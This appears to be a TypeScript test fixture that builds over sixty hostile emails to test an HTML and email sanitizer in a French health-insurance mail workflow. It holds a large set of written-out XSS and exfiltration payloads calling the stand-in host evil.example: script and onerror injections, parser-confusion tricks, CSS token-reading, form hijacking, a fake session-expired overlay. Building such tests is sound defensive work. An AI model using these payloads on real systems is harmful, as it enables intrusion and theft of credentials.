/** Where hostile mails would call home; nothing answers there, and nothing may ask. */
export const evil = "http://evil.example:9";

interface Parts {
  readonly subject?: string;
  readonly from?: string;
  readonly text?: string;
  readonly html?: string;
  readonly attachment?: { readonly name: string; readonly type: string; readonly body: string };
  readonly headers?: string;
}

const boom = `window.pwned=1;fetch('${evil}/s')`;
const bodies: readonly (readonly [name: string, parts: Parts])[] = [
  ...([
    ["script", `<script>${boom}</script>`],
    ["script of another site", `<script src="${evil}/x.js"></script>`],
    ["script in capitals with a space", `<SCRIPT >${boom}</SCRIPT >`],
    ["script cut in two", `<scr<script>ipt>${boom}</scr</script>ipt>`],
    ["script that is never closed", `<p>a</p><script>${boom}`],
    ["module script", `<script type="module">import '${evil}/m.js'</script>`],
    ["image that fails", `<img src=x onerror="${boom}">`],
    ["image of another site", `<img src="${evil}/pixel.gif" width=1 height=1>`],
    ["image by srcset", `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x">`],
    ["picture with sources", `<picture><source srcset="${evil}/p.webp"><img src="${evil}/p.png"></picture>`],
    ["image with a slash for a space", `<img/src="x"/onerror=${boom}>`],
    ["image with a back quote", "<img src=`x` onerror=`" + boom + "`>"],
    ["svg that loads", `<svg onload="${boom}"></svg>`],
    ["svg with a script", `<svg><script>${boom}</script></svg>`],
    ["svg use of another site", `<svg><use href="${evil}/i.svg#a"></use></svg>`],
    ["svg image", `<svg><image href="${evil}/i.png"></image></svg>`],
    ["svg foreign object", `<svg><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`],
    ["svg animation of a link", `<svg><a><animate attributeName=href values="javascript:${boom}"></animate><text>x</text></a></svg>`],
    ["math that changes the parser", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${boom}&gt;">`],
    ["noscript that changes the parser", `<noscript><p title="</noscript><img src=x onerror=${boom}>">`],
    ["template", `<template><img src=x onerror=${boom}></template>`],
    ["text area", `<textarea><img title="</textarea><img src=x onerror=${boom}>">`],
    ["title", `<title><img title="</title><img src=x onerror=${boom}>">`],
    ["comment that is not closed", `<!-- --!><img src=x onerror=${boom}>`],
    ["conditional comment", `<!--[if gte IE 4]><script>${boom}</script><![endif]-->`],
    ["CDATA", `<![CDATA[<img src=x onerror=${boom}>]]>`],
    ["style that imports", `<style>@import url("${evil}/s.css");</style>`],
    ["style with a picture", `<style>body{background:url(${evil}/b.png)}</style>`],
    ["style with a font", `<style>@font-face{font-family:a;src:url(${evil}/f.woff)}p{font-family:a}</style><p>a</p>`],
    ["style that reads attributes", `<style>input[name=jeton][value^=a]{background:url(${evil}/a)}</style>`],
    ["style attribute", `<div style="background-image:url(${evil}/d.png)">a</div>`],
    ["style attribute over the whole page", `<div style="position:fixed;inset:0;background:#fff;z-index:9999">Votre session a expiré</div>`],
    ["style sheet link", `<link rel="stylesheet" href="${evil}/s.css">`],
    ["preload", `<link rel="preload" as="image" href="${evil}/l.png"><link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="${evil}/n">`],
    ["icon", `<link rel="icon" href="${evil}/favicon.ico">`],
    ["table background", `<table background="${evil}/t.png"><tr><td background="${evil}/c.png">a</td></tr></table>`],
    ["body background", `<body background="${evil}/b.png" onload="${boom}">a`],
    ["frame", `<iframe src="${evil}"></iframe>`],
    ["frame with its own document", `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`],
    ["frame of a script", `<iframe src="javascript:parent.pwned=1"></iframe>`],
    ["object", `<object data="${evil}/o.swf"><param name=a value=b></object>`],
    ["embed", `<embed src="${evil}/e.swf">`],
    ["video with a poster", `<video src="${evil}/v.mp4" poster="${evil}/p.png" autoplay onerror="${boom}"></video>`],
    ["audio", `<audio src="${evil}/a.mp3" autoplay></audio>`],
    ["refresh", `<meta http-equiv="refresh" content="0;url=${evil}/r">`],
    ["base", `<base href="${evil}/"><a href="x">a</a>`],
    ["form that sends elsewhere", `<form action="${evil}/f" method="post"><input name="motdepasse" autofocus onfocus="${boom}"><button>Valider</button></form>`],
    ["button for our own form", `<button form="decide" formaction="${evil}/f" name="acte" value="tout-accepter">Lire la suite</button>`],
    ["field for our own form", `</div><input type="hidden" name="jeton" value="x" form="decide"><input name="motif" value="x">`],
    ["closing of our own page", `</div></section></main></body></html><script>${boom}</script>`],
    ["link of a script", `<a href="javascript:${boom}" autofocus onfocus="${boom}">a</a>`],
    ["link that pings", `<a href="${evil}" ping="${evil}/ping">a</a>`],
    ["details that open", `<details open ontoggle="${boom}"><summary>a</summary></details>`],
    ["moving text", `<marquee onstart="${boom}">a</marquee>`],
    ["clobbering names", `<form id="getElementById"><input name="body"></form><a id="location" href="${evil}">a</a>`],
    ["data address", `<a href="data:text/html,<script>${boom}</script>">a</a><img src="data:image/svg+xml,<svg onload='${boom}' xmlns='http://www.w3.org/2000/svg'/>">`],
  ] as const).map(([name, html]) => [name, { html }] as const),
  ["script in the subject", { subject: `<script>${boom}</script>` }],
  ["script in the sender's name", { from: `"<img src=x onerror=${boom}>" <claire.morel@medecin.mssante.example>` }],
  ["script in an encoded subject", { subject: `=?utf-8?B?${Buffer.from(`"><img src=x onerror=${boom}>`).toString("base64")}?=` }],
  ["script in the text", { text: `J'accepte <script>${boom}</script> "><img src=${evil}/t.png onerror=${boom}>` }],
  ["script in a file's name", { attachment: { name: `"><img src=x onerror=${boom}>.pdf`, type: "application/pdf", body: "%PDF-1.4" } }],
  ["file that is a page", { attachment: { name: "ordonnance.pdf.html", type: "text/html", body: `<script>${boom}</script>` } }],
  ["svg as a file", { attachment: { name: "logo.svg", type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${boom}"/>` } }],
  ["markup in a type", { attachment: { name: "a.bin", type: `application/x"><img src=x onerror=${boom}>`, body: "a" } }],
];

/** More than sixty mails that try to run, load, send or cover something; each also accepts line 1, so that its words are marked. */
export const hostileMails: readonly { readonly name: string; readonly raw: Buffer; readonly hasHtml: boolean }[] = bodies.map(([name, parts], index) => ({ name, raw: write(parts, index), hasHtml: parts.html !== undefined }));

function write(parts: Parts, index: number): Buffer {
  const head = [
    `From: ${parts.from ?? "Dr Claire Morel <claire.morel@medecin.mssante.example>"}`, "To: liste-ald@cpam871.mssante.example", `Subject: ${parts.subject ?? "Re: liste"}`,
    `Message-ID: <hostile-${index}@medecin.mssante.example>`, "MIME-Version: 1.0",
  ];
  const text = ["Content-Type: text/plain; charset=utf-8", "", parts.text ?? "J'accepte la ligne 1."];
  const html = parts.html === undefined ? [] : ["--limite", "Content-Type: text/html; charset=utf-8", "", `<html><body>J'accepte la ligne 1.${parts.html}<p>Dr Morel</p></body></html>`];
  const { attachment } = parts;
  const file = attachment === undefined ? [] : ["--limite", `Content-Type: ${attachment.type}`, `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(attachment.name)}`, "", attachment.body];
  return Buffer.from([...head, `Content-Type: multipart/${attachment === undefined ? "alternative" : "mixed"}; boundary=limite`, "", "--limite", ...text, ...html, ...file, "--limite--", ""].join("\r\n"));
}
